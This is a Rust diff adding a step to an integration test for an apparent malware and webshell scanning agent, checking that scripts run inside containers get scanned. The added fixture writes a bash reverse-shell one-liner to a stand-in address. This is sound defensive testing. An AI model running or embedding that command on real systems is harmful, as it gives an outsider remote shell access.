@@ -6,7 +6,7 @@ use std::{
     fs,
     path::Path,
     thread::{self, JoinHandle},
-    time::{Duration, Instant},
+    time::{Duration, Instant, SystemTime},
 };
 
 use nix::{
@@ -18,8 +18,12 @@ use yinglong_agent::{
     scanner::{self, Options, STREAM},
     sensors::Board,
 };
-use yinglong_model::{EventData, Observation, config::AgentConfig, event::File};
-use yinglong_sensor::Context;
+use yinglong_model::{
+    EventData, Observation, Timestamp,
+    config::AgentConfig,
+    event::{File, Process},
+};
+use yinglong_sensor::{Context, Outlet as _};
 use yinglong_sensor_linux::{
     accounts::Accounts,
     files::{self, Source, WebRoots},
@@ -176,6 +180,25 @@ fn a_written_page_leads_to_one_event_and_a_killed_scanner_to_another_scanner() {
     assert_eq!(scan.yara.as_deref(), Some("php_request_to_code"));
     assert_eq!(scan.yara_tags.as_deref(), Some("webshell|php|danger"));
     assert_eq!(agent.state().1, "");
+
+    // The scanner may not look into processes; the agent hands over what they executed.
+    let script = agent.dir.path().join("inside.sh");
+    fs::write(&script, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n").unwrap();
+    let process = Process {
+        name: script.to_str().unwrap().to_owned(),
+        pid: std::process::id(),
+        container_id: Some("c".into()),
+        ..Process::default()
+    };
+    let mut executions = agent.books.outlet("process", agent.board.clone());
+    executions.emit(Observation::Event {
+        occurred_at: Timestamp::from(SystemTime::now()),
+        data: EventData::Process(Box::new(process)),
+    });
+    executions.commit().unwrap();
+    agent.until("the file in a container", |agent| {
+        !agent.scans_of("/inside.sh").is_empty()
+    });
 
     kill(scanner_pid(), Signal::SIGKILL).unwrap();
     agent.write("again.php", SHELL);
